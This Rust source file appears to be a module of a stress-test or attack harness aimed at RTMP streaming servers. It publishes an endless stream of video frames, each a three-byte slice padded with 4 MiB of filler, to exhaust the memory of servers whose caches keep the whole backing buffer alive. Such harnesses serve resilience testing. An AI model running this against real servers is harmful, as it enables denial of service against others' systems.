//! Frames of three bytes in messages of 4 MiB: the rest is filler, which is not kept.
//!
//! A cache that counts the slice and not the buffer that the slice keeps alive holds all of it.

use super::context::Context;
use super::error::AttackError;
use super::media::{Clip, SLICE, filler, inter_frame};
use super::rtmp::{RtmpPeer, VIDEO};

/// Bytes of filler in each message.
const FILLER: usize = 4 << 20;

/// Milliseconds from one frame to the next.
const STEP: u32 = 33;

pub(super) async fn run(context: &Context) -> Result<(), AttackError> {
    let clip = Clip::read(context)?;
    let frame = inter_frame(&[SLICE, &filler(FILLER)]);
    let mut publisher = RtmpPeer::publish(context, 0, "pinned").await?;
    publisher.send(context, VIDEO, 0, clip.video_header).await?;
    publisher.send(context, VIDEO, 0, clip.keyframe).await?;
    for number in 1.. {
        publisher
            .send(context, VIDEO, number * STEP, frame.clone())
            .await?;
        context.add("frames", 1.0);
    }
    Ok(())
}
